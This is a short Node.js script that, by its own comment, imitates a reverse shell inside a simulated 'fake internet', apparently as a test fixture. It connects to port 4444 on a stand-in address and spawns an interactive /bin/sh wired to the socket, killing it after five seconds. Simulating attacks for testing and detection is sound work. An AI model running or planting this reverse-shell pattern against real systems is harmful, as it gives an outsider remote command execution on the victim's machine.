// Imitates the Node.js reverse shell: connects out and starts a shell whose stdin, stdout and stderr are
// the socket. The fake internet's listener sends nothing; the shell is killed after 5 s.
'use strict';
const net = require('node:net');
const { spawn } = require('node:child_process');

const socket = net.connect(4444, '203.0.113.47', () => {
  const shell = spawn('/bin/sh', ['-i'], { stdio: [socket, socket, socket] });
  setTimeout(() => {
    shell.kill();
    socket.destroy();
  }, 5000);
});
socket.on('error', () => process.exit(1));
